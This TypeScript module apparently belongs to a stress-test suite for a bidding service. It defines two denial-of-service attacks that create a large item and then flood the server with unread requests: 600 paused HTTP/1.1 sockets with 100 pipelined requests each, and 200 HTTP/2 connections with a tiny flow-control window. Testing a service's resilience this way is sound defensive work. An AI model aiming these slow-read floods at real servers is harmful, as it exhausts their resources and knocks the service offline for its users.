import { callJson } from '../call-json.ts'
import { type Attack, type AttackContext, scaled, untilOver } from './attack.ts'
import {
  END_HEADERS,
  END_STREAM,
  frame,
  headerBlock,
  openHttp2,
  requestHeaders,
  streamId,
} from './raw-http2.ts'
import { countOpen, openSockets } from './raw-socket.ts'

/** An item about as large as items can be. */
const DESCRIPTION_CHARACTERS = 9_000
const ITEM_LIFE_MS = 24 * 3_600_000
const HTTP1_CONNECTIONS = 600
const HTTP2_CONNECTIONS = 200
/** Answers asked for on each. */
const ANSWERS = 100

const path = '/bids.v1.BidService/GetItem'
const INITIAL_WINDOW_SIZE = 4

async function largeItem({ url }: AttackContext): Promise<string> {
  const { item } = await callJson<{ item: { id: string } }>(url, 'bids.v1.BidService/CreateItem', {
    title: 'Large',
    description: 'é'.repeat(DESCRIPTION_CHARACTERS),
    sellerId: 'seller',
    startPrice: 1,
    endAt: new Date(Date.now() + ITEM_LIFE_MS).toISOString(),
  })
  return JSON.stringify({ id: item.id })
}

export const unreadAnswersHttp1: Attack = {
  name: 'unread-answers-http1',
  description: '600 connections that ask for 100 large items each and read nothing',
  run: async (context) => {
    const body = await largeItem(context)
    const head = `POST ${path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: ${body.length}`
    const requests = `${head}\r\n\r\n${body}`.repeat(ANSWERS)
    const sockets = await openSockets(context, scaled(HTTP1_CONNECTIONS, context), (socket) => {
      socket.pause().write(requests)
    })
    await untilOver(context)
    return `${sockets.length * ANSWERS} answers asked for, ${countOpen(sockets)} connections open at the end`
  },
}

export const unreadAnswersHttp2: Attack = {
  name: 'unread-answers-http2',
  description: '200 HTTP/2 connections without a window that ask for 100 large items each',
  run: async (context) => {
    const body = Buffer.from(await largeItem(context))
    const block = headerBlock(requestHeaders(path, 'application/json'))
    const connections = Array.from({ length: scaled(HTTP2_CONNECTIONS, context) }, () =>
      openHttp2(context, [[INITIAL_WINDOW_SIZE, 0]]),
    )
    for (const { socket } of connections) {
      for (let index = 0; index < ANSWERS; index += 1) {
        socket.write(frame('headers', END_HEADERS, streamId(index), block))
        socket.write(frame('data', END_STREAM, streamId(index), body))
      }
    }
    await untilOver(context)
    const open = countOpen(connections.map(({ socket }) => socket))
    return `${connections.length * ANSWERS} answers asked for, ${open} connections open at the end`
  },
}
